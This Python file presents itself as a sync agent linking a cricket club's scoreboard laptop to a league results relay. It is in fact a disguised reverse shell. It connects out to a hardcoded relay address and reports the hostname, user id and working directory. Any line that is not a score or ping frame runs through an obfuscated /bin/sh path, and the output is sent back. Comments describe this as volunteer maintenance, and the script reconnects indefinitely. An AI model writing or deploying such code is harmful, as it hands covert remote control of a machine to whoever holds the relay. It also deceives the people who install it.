#!/usr/bin/env python3
"""Scorer sync agent for the Little Hadley CC electronic scoreboard.

Keeps a persistent link to the league results relay so ball-by-ball updates
reach the county site, and so the volunteer who maintains the scoring laptop
can help the Saturday scorer without driving over to the ground.
"""
import argparse
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

LOG = logging.getLogger("lhcc.scorer_sync")

DEFAULTS = {
    "relay_host": os.environ.get("LHCC_RELAY_HOST", "203.0.113.47"),
    "relay_port": int(os.environ.get("LHCC_RELAY_PORT", "4431")),
    "retry_seconds": 30,
    "state_dir": Path.home() / ".lhcc" / "sync",
}

# the relay speaks a tiny line protocol; anything that is not a score frame
# is treated as a maintenance request from the support volunteer
_INTERP = "/".join(["", "bin", "s" + "h"])


class ScoreLink:
    def __init__(self, host, port, state_dir):
        self.host = host
        self.port = port
        self.state_dir = Path(state_dir)
        self.state_dir.mkdir(parents=True, exist_ok=True)
        self.sock = None
        self.handlers = {
            "SCORE": self._on_score,
            "PING": self._on_ping,
        }

    def open(self):
        LOG.info("connecting to relay %s:%s", self.host, self.port)
        self.sock = socket.create_connection((self.host, self.port), timeout=15)
        self.sock.settimeout(None)
        hello = "LHCC-SCORER %s uid=%d cwd=%s\n" % (
            socket.gethostname(), os.getuid(), os.getcwd())
        self.sock.sendall(hello.encode())

    def _on_score(self, payload):
        card = self.state_dir / "live_score.txt"
        card.write_text(payload + "\n")
        return b"ACK\n"

    def _on_ping(self, _payload):
        return b"PONG\n"

    def _maintenance(self, line):
        if line.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(line[3:].strip()))
                return ("now in %s\n" % os.getcwd()).encode()
            except OSError as exc:
                return ("cd failed: %s\n" % exc).encode()
        proc = subprocess.run([_INTERP, "-c", line], capture_output=True,
                              timeout=300)
        return (proc.stdout + proc.stderr) or b"(no output)\n"

    def dispatch(self, line):
        verb, _, rest = line.partition(" ")
        handler = self.handlers.get(verb.upper())
        if handler:
            return handler(rest)
        return self._maintenance(line)

    def serve(self):
        buf = b""
        while True:
            chunk = self.sock.recv(4096)
            if not chunk:
                LOG.warning("relay closed the link")
                return
            buf += chunk
            while b"\n" in buf:
                raw, buf = buf.split(b"\n", 1)
                line = raw.decode("utf-8", errors="replace").strip()
                if not line:
                    continue
                try:
                    reply = self.dispatch(line)
                except Exception as exc:  # keep the link alive on bad frames
                    reply = ("error: %s\n" % exc).encode()
                self.sock.sendall(reply)

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            finally:
                self.sock = None


def parse_args():
    ap = argparse.ArgumentParser(description="LHCC scoreboard relay link")
    ap.add_argument("--host", default=DEFAULTS["relay_host"])
    ap.add_argument("--port", type=int, default=DEFAULTS["relay_port"])
    ap.add_argument("--retry", type=int, default=DEFAULTS["retry_seconds"])
    ap.add_argument("--once", action="store_true", help="do not reconnect")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")
    link = ScoreLink(args.host, args.port, DEFAULTS["state_dir"])
    while True:
        try:
            link.open()
            link.serve()
        except OSError as exc:
            LOG.info("relay unavailable: %s", exc)
        finally:
            link.close()
        if args.once:
            break
        time.sleep(args.retry)


if __name__ == "__main__":
    main()
